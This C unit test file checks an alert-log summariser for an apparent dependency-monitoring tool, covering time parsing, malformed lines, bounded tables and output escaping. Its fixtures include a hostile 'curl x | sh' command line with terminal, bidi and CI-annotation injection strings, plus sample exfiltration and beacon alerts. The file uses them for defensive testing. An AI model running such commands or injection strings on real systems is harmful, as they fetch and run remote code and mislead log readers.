// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * The alert-log summariser: what is an alert, a follow-up or a malformed
 * line; --since and exec's scope; counts per rule and severity; bounded
 * tables (rules, listed alerts) that keep the most severe; every format
 * escaping what an alert may carry; times in RFC 3339.
 */
#include <errno.h>
#include <stdio.h>

#include <json-c/json.h>

#include "unit.h"

#define T0 "2026-11-23T09:41:26.650Z"

static char *alert_line(const char *ts, const char *rule, const char *sev, const char *extra)
{
	char *s;

	assert_true(asprintf(&s,
			     "{\"@timestamp\":\"%s\",\"event\":{\"kind\":\"alert\"},"
			     "\"rule\":{\"id\":\"%s\"},\"depsentry\":{\"severity\":\"%s\"}%s%s}",
			     ts, rule, sev, extra ? "," : "", extra ? extra : "") > 0);
	return s;
}

static int add(struct summary *s, const char *line)
{
	return summary_add(s, line, strlen(line), NULL);
}

static int add_alert(struct summary *s, const char *ts, const char *rule, const char *sev,
		     const char *extra)
{
	char *l = alert_line(ts, rule, sev, extra);
	int r = add(s, l);

	free(l);
	return r;
}

/* The summary printed in fmt, as a malloc'd string. */
static char *print(const struct summary *s, enum report_format fmt)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	assert_non_null(f);
	assert_int_equal(summary_print(s, fmt, "t", f), 0);
	fclose(f);
	return buf;
}

static struct json_object *print_json(const struct summary *s)
{
	char *out = print(s, REPORT_JSON);
	struct json_object *o = json_tokener_parse(out);

	assert_non_null(o);
	free(out);
	return o;
}

static int64_t jint(struct json_object *o, const char *key)
{
	struct json_object *v;

	assert_true(json_object_object_get_ex(o, key, &v));
	return json_object_get_int64(v);
}

static void test_time(void **state)
{
	int64_t ns;

	(void)state;
	assert_int_equal(summary_parse_time("1970-01-01T00:00:01Z", &ns), 0);
	assert_int_equal(ns, 1000000000LL);
	assert_int_equal(summary_parse_time("1970-01-01T00:00:00.5Z", &ns), 0);
	assert_int_equal(ns, 500000000LL);
	assert_int_equal(summary_parse_time("1970-01-01T01:00:00+01:00", &ns), 0);
	assert_int_equal(ns, 0);
	assert_int_equal(summary_parse_time("1970-01-01T00:00:00.123456789-00:30", &ns), 0);
	assert_int_equal(ns, 1800123456789LL);
	assert_int_equal(summary_parse_time(T0, &ns), 0);
	assert_int_equal(ns % 1000000000LL, 650000000LL);
	assert_int_equal(summary_parse_time("2026-11-23T09:41:26", &ns), -EINVAL);
	assert_int_equal(summary_parse_time("2026-11-23T09:41:26.Z", &ns), -EINVAL);
	assert_int_equal(summary_parse_time("2026-11-23T09:41:26Zjunk", &ns), -EINVAL);
	assert_int_equal(summary_parse_time("2026-11-23T09:41:26+1:00", &ns), -EINVAL);
	assert_int_equal(summary_parse_time(" 2026-11-23T09:41:26Z", &ns), -EINVAL);
	assert_int_equal(summary_parse_time("yesterday", &ns), -EINVAL);
}

/* ns since the epoch hold in 64 bits from 1677-09-21T00:12:43.145224192Z
 * to 2262-04-11T23:47:16.854775807Z: anything outside is no time, never
 * an overflow (a log line from 9999 is malformed, not a wrapped stamp). */
static void test_time_range(void **state)
{
	struct summary *s = summary_new(0, SEV_NONE);
	const char *why = NULL;
	char *line;
	int64_t ns;

	(void)state;
	assert_int_equal(summary_parse_time("2262-04-11T23:47:16.854775807Z", &ns), 0);
	assert_true(ns == INT64_MAX);
	assert_int_equal(summary_parse_time("1677-09-21T00:12:43.145224192Z", &ns), 0);
	assert_true(ns == INT64_MIN);
	assert_int_not_equal(summary_parse_time("2262-04-11T23:47:16.854775808Z", &ns), 0);
	assert_int_not_equal(summary_parse_time("2262-04-12T00:00:00Z", &ns), 0);
	assert_int_not_equal(summary_parse_time("9999-12-31T23:59:59Z", &ns), 0);
	assert_int_not_equal(summary_parse_time("2262-04-11T23:47:16-00:01", &ns), 0);
	assert_int_not_equal(summary_parse_time("1677-09-21T00:12:43.145224191Z", &ns), 0);
	assert_int_not_equal(summary_parse_time("0000-01-01T00:00:00Z", &ns), 0);
	line = alert_line("9999-12-31T23:59:59.999Z", "r", "high", NULL);
	assert_int_equal(summary_add(s, line, strlen(line), &why), -EINVAL);
	assert_non_null(why);
	free(line);
	assert_int_equal(summary_highest(s), SEV_NONE);
	summary_free(s);
}

static void test_lines(void **state)
{
	struct summary *s = summary_new(0, SEV_NONE);
	const char *why = "stale";
	static const char *const bad[] = {
		"not json",
		"[1,2]",
		"{\"event\":{\"kind\":\"alert\"},\"rule\":{\"id\":\"r\"},"
		"\"depsentry\":{\"severity\":\"high\"}}", /* no time */
		"{\"@timestamp\":\"yesterday\",\"event\":{\"kind\":\"alert\"},"
		"\"rule\":{\"id\":\"r\"},\"depsentry\":{\"severity\":\"high\"}}",
		"{\"@timestamp\":\"" T0 "\",\"event\":{\"kind\":\"signal\"},"
		"\"rule\":{\"id\":\"r\"},\"depsentry\":{\"severity\":\"high\"}}",
		"{\"@timestamp\":\"" T0 "\",\"event\":{\"kind\":\"alert\"},"
		"\"depsentry\":{\"severity\":\"high\"}}", /* no rule */
		"{\"@timestamp\":\"" T0 "\",\"event\":{\"kind\":\"alert\"},"
		"\"rule\":{\"id\":\"r\"}}", /* no severity */
		"{\"@timestamp\":\"" T0 "\",\"event\":{\"kind\":\"alert\"},"
		"\"rule\":{\"id\":\"r\"},\"depsentry\":{\"severity\":\"high\"}} {}", /* two */
		"{\"@timestamp\":\"" T0 "\",\"event\":{\"kind\":\"alert\"",	     /* cut */
	};
	struct json_object *o, *v;
	char *big;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(bad); i++) {
		assert_int_equal(summary_add(s, bad[i], strlen(bad[i]), &why), -EINVAL);
		assert_non_null(why);
	}
	/* a blank line is no line of the log's alerts, and says nothing */
	assert_int_equal(summary_add(s, "  \n", 3, &why), 0);
	assert_null(why);
	assert_int_equal(add_alert(s, T0, "r", "high", NULL), 0);
	/* event.severity when depsentry.severity is missing */
	assert_int_equal(add(s, "{\"@timestamp\":\"" T0 "\",\"event\":{\"kind\":\"alert\","
				"\"severity\":99},\"rule\":{\"id\":\"r\"}}\n"),
			 0);
	/* a follow-up of repeated sightings is not a new alert */
	assert_int_equal(add(s, "{\"@timestamp\":\"" T0 "\",\"event\":{\"kind\":\"event\"},"
				"\"rule\":{\"id\":\"r\"},\"depsentry\":{\"severity\":\"high\"}}"),
			 0);
	big = calloc(1, (1 << 20) + 2);
	memset(big, ' ', (1 << 20) + 1);
	big[0] = '{';
	assert_int_equal(add(s, big), -EINVAL);
	free(big);

	assert_int_equal(summary_highest(s), SEV_CRITICAL);
	assert_int_equal(summary_at_or_above(s, SEV_HIGH), 2);
	assert_int_equal(summary_at_or_above(s, SEV_CRITICAL), 1);
	assert_int_equal(summary_at_or_above(s, SEV_NONE), 0);
	o = print_json(s);
	assert_int_equal(jint(o, "lines"), (int64_t)ARRAY_SIZE(bad) + 5);
	assert_int_equal(jint(o, "alerts"), 2);
	assert_int_equal(jint(o, "repeats"), 1);
	assert_int_equal(jint(o, "malformed"), (int64_t)ARRAY_SIZE(bad) + 1);
	assert_true(json_object_object_get_ex(o, "malformed_lines", &v));
	assert_int_equal(json_object_array_length(v), 10); /* the first ten */
	assert_int_equal(json_object_get_int64(json_object_array_get_idx(v, 0)), 1);
	assert_int_equal(json_object_get_int64(json_object_array_get_idx(v, 9)), 14);
	assert_false(json_object_object_get_ex(o, "fail_on", &v));
	json_object_put(o);
	summary_free(s);
}

static void test_since_and_scope(void **state)
{
	struct summary *s;
	struct json_object *o;
	int64_t since;
	char *out;

	(void)state;
	assert_int_equal(summary_parse_time("2026-11-23T09:41:27Z", &since), 0);
	s = summary_new(since, SEV_HIGH);
	add_alert(s, T0, "r", "critical", NULL);
	add_alert(s, "2026-11-23T09:41:27.000Z", "r", "medium", NULL);
	add_alert(s, "2026-11-23T10:41:27.000+01:00", "r", "medium", NULL); /* same time */
	o = print_json(s);
	assert_int_equal(jint(o, "alerts"), 2);
	assert_int_equal(jint(o, "before_since"), 1);
	assert_int_equal(jint(o, "at_or_above"), 0);
	json_object_put(o);
	out = print(s, REPORT_TEXT);
	assert_non_null(strstr(out, "1 alert before 2026-11-23T09:41:27.000Z left out\n"));
	assert_non_null(strstr(out, "0 alerts at or above high: under the threshold\n"));
	free(out);
	summary_free(s);

	/* exec: the alerts of CMD count, the host's others are set apart */
	s = summary_new(0, SEV_MEDIUM);
	summary_scope(s, 42);
	add_alert(s, T0, "r", "high", NULL);
	add(s, "{\"@timestamp\":\"" T0 "\",\"event\":{\"kind\":\"alert\"},\"rule\":{\"id\":\"r\"},"
	       "\"depsentry\":{\"severity\":\"high\",\"exec\":{\"pid\":42}}}");
	add(s, "{\"@timestamp\":\"" T0 "\",\"event\":{\"kind\":\"alert\"},\"rule\":{\"id\":\"r\"},"
	       "\"depsentry\":{\"severity\":\"critical\",\"exec\":{\"pid\":43}}}");
	assert_int_equal(summary_highest(s), SEV_HIGH);
	assert_int_equal(summary_at_or_above(s, SEV_MEDIUM), 1);
	out = print(s, REPORT_TEXT);
	assert_non_null(
		strstr(out, "2 alerts of processes CMD did not start (critical 1, high 1)"));
	free(out);
	summary_free(s);
}

static void test_rules_bounded(void **state)
{
	struct summary *s = summary_new(0, SEV_NONE);
	struct json_object *o, *rules, *last;
	char rule[32];
	int i;

	(void)state;
	for (i = 0; i < 40; i++) {
		snprintf(rule, sizeof(rule), "rule-%02d", i);
		add_alert(s, T0, rule, i % 2 ? "low" : "high", NULL);
		add_alert(s, T0, rule, "medium", NULL);
	}
	o = print_json(s);
	assert_int_equal(jint(o, "alerts"), 80);
	assert_true(json_object_object_get_ex(o, "rules", &rules));
	assert_int_equal(json_object_array_length(rules), 33); /* 32, and the others */
	last = json_object_array_get_idx(rules, 32);
	assert_false(json_object_object_get_ex(last, "id", NULL));
	assert_int_equal(jint(last, "total"), 16);
	assert_int_equal(jint(last, "medium"), 8);
	assert_int_equal(jint(json_object_array_get_idx(rules, 0), "high"), 1);
	json_object_put(o);
	summary_free(s);
}

/* 600 alerts, the 50 critical ones last: all of them are listed. */
static void test_stories_bounded(void **state)
{
	struct summary *s = summary_new(0, SEV_CRITICAL);
	struct json_object *o, *listed;
	int i, critical = 0;
	size_t k;

	(void)state;
	for (i = 0; i < 600; i++)
		add_alert(s, T0, "r", i >= 550 ? "critical" : "medium", NULL);
	o = print_json(s);
	assert_int_equal(jint(o, "alerts"), 600);
	assert_int_equal(jint(o, "unlisted"), 100);
	assert_true(json_object_object_get_ex(o, "alerts_listed", &listed));
	assert_int_equal(json_object_array_length(listed), 500);
	for (k = 0; k < 500; k++) {
		struct json_object *e = json_object_array_get_idx(listed, k), *v;

		json_object_object_get_ex(e, "severity", &v);
		critical += strcmp(json_object_get_string(v), "critical") == 0;
		/* in log order: line numbers increase */
		if (k)
			assert_true(jint(e, "line") >
				    jint(json_object_array_get_idx(listed, k - 1), "line"));
	}
	assert_int_equal(critical, 50);
	assert_int_equal(jint(json_object_array_get_idx(listed, 0), "line"), 1);
	assert_int_equal(jint(o, "at_or_above"), 50);
	json_object_put(o);
	summary_free(s);
}

/* What an alert says about itself, and nothing it could smuggle. */
#define HOSTILE                                                                       \
	"\"process\":{\"name\":\"curl\",\"command_line\":\"curl x | sh\\n::error::x " \
	"\\u001b[31m\\u202e <b>[a](u)`c` \\\\ \\u0085\"},"                            \
	"\"package\":{\"name\":\"evil\",\"version\":\"1.0.0\"},"                      \
	"\"depsentry\":{\"severity\":\"high\",\"session\":{\"pid\":10,"               \
	"\"package_manager\":\"npm\"},\"ancestry\":[{\"pid\":10,\"name\":\"node\"},"  \
	"{\"pid\":11,\"name\":\"sh\"},{\"pid\":12,\"name\":\"curl\"}]}"

static void test_escaping(void **state)
{
	struct summary *s = summary_new(0, SEV_NONE);
	char line[1024], *out;
	struct json_object *o, *listed, *what;

	(void)state;
	snprintf(line, sizeof(line),
		 "{\"@timestamp\":\"%s\",\"event\":{\"kind\":\"alert\"},"
		 "\"rule\":{\"id\":\"r|x\"},%s}",
		 T0, HOSTILE);
	assert_int_equal(add(s, line), 0);
	/* an invalid UTF-8 byte inside a string */
	assert_int_equal(add_alert(s, T0,
				   "bad\xff"
				   "byte",
				   "low", NULL),
			 0);

	out = print(s, REPORT_TEXT);
	assert_non_null(strstr(out, "evil@1.0.0: npm > sh > curl ran curl x | sh\\n::error::x "
				    "\\x1b[31m\\u202e <b>[a](u)`c` \\ \\u0085\n"));
	assert_non_null(strstr(out, " bad\\xffbyte "));
	assert_null(strchr(out, '\x1b'));
	assert_null(strstr(out, "\n::"));
	free(out);

	out = print(s, REPORT_MARKDOWN);
	assert_non_null(strstr(out, "| r\\|x | 0 | 1 | 0 | 0 | 1 |\n"));
	assert_non_null(strstr(out, "| evil\\@1\\.0\\.0 | npm \\> sh \\> curl ran curl x \\| sh"
				    "\\\\n\\:\\:error\\:\\:x \\\\x1b\\[31m\\\\u202e \\<b\\>\\[a\\]"
				    "\\(u\\)\\`c\\` \\\\ \\\\u0085 |\n"));
	assert_null(strstr(out, "\xe2\x80\xae"));
	free(out);

	o = print_json(s);
	assert_true(json_object_object_get_ex(o, "alerts_listed", &listed));
	assert_true(json_object_object_get_ex(json_object_array_get_idx(listed, 0), "what", &what));
	/* JSON keeps the text as it was; json-c escapes what needs escaping */
	assert_string_equal(json_object_get_string(what),
			    "npm > sh > curl ran curl x | sh\n::error::x \x1b[31m\xe2\x80\xae "
			    "<b>[a](u)`c` \\ \xc2\x85");
	json_object_put(o);
	summary_free(s);
}

static void test_stories(void **state)
{
	struct summary *s = summary_new(0, SEV_NONE);
	char *out;

	(void)state;
	add_alert(s, T0, "cicd-file-modified", "critical",
		  "\"event\":{\"kind\":\"alert\",\"action\":\"rename\"},"
		  "\"file\":{\"path\":\"/p/.github/workflows/ci.yml\"},"
		  "\"process\":{\"name\":\"sed\",\"parent\":{\"name\":\"bash\"}},"
		  "\"depsentry\":{\"severity\":\"critical\",\"file\":{\"old_path\":\"/p/x\"}}");
	add_alert(s, T0, "pm-unexpected-egress", "high",
		  "\"destination\":{\"ip\":\"127.0.0.9\",\"port\":8080,"
		  "\"domain\":\"exfil.test\"},\"network\":{\"transport\":\"tcp\"},"
		  "\"process\":{\"name\":\"node\"}");
	add_alert(
		s, T0, "pm-unexpected-egress", "medium",
		"\"dns\":{\"question\":{\"name\":\"abc.beacon.test\"}},"
		"\"destination\":{\"ip\":\"127.0.0.53\",\"port\":53},\"process\":{\"name\":\"node\"}");
	/* a deep chain: the root, "...", the four nearest */
	add_alert(
		s, T0, "pm-suspicious-child", "medium",
		"\"process\":{\"name\":\"id\",\"command_line\":\"id -a\"},"
		"\"depsentry\":{\"severity\":\"medium\",\"ancestry\":[{\"name\":\"a\"},{\"name\":\"b\"},"
		"{\"name\":\"c\"},{\"name\":\"d\"},{\"name\":\"e\"},{\"name\":\"f\"},{\"name\":\"g\"}]}");
	out = print(s, REPORT_TEXT);
	assert_non_null(strstr(out, " critical cicd-file-modified bash > sed renamed a file onto "
				    "/p/.github/workflows/ci.yml from /p/x\n"));
	assert_non_null(strstr(out,
			       " pm-unexpected-egress node connected to exfil.test (127.0.0.9) "
			       "port 8080/tcp\n"));
	assert_non_null(strstr(out, " pm-unexpected-egress node asked for abc.beacon.test\n"));
	assert_non_null(strstr(out, " pm-suspicious-child a > ... > d > e > f > g ran id -a\n"));
	assert_non_null(strstr(out, "    pm-unexpected-egress: 2 (high 1, medium 1)\n"));
	assert_non_null(strstr(out, "t: 4 alerts, highest critical (4 lines)\n"));
	free(out);
	summary_free(s);
}

static void test_ci_jobs(void **state)
{
	struct summary *s = summary_new(0, SEV_NONE);
	struct json_object *o, *ci;
	char extra[256];
	char *out;
	int i;

	(void)state;
	for (i = 0; i < 12; i++) {
		snprintf(extra, sizeof(extra),
			 "\"depsentry\":{\"severity\":\"low\",\"ci\":{"
			 "\"provider\":\"gitlab\",\"repository\":\"g/p\",\"run_id\":\"%d\"}}",
			 i);
		add_alert(s, T0, "r", "low", extra);
		add_alert(s, T0, "r", "low", extra); /* the same job again */
	}
	add_alert(s, T0, "r", "low", NULL); /* no CI */
	o = print_json(s);
	assert_true(json_object_object_get_ex(o, "ci", &ci));
	assert_int_equal(json_object_array_length(ci), 8);
	assert_int_equal(jint(o, "other_ci_alerts"), 8);
	json_object_put(o);
	out = print(s, REPORT_MARKDOWN);
	assert_non_null(strstr(out, "- CI: gitlab, repository g\\/p, run_id 0\n"));
	free(out);
	summary_free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_time),	      cmocka_unit_test(test_time_range),
		cmocka_unit_test(test_lines),	      cmocka_unit_test(test_since_and_scope),
		cmocka_unit_test(test_rules_bounded), cmocka_unit_test(test_stories_bounded),
		cmocka_unit_test(test_escaping),      cmocka_unit_test(test_stories),
		cmocka_unit_test(test_ci_jobs),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
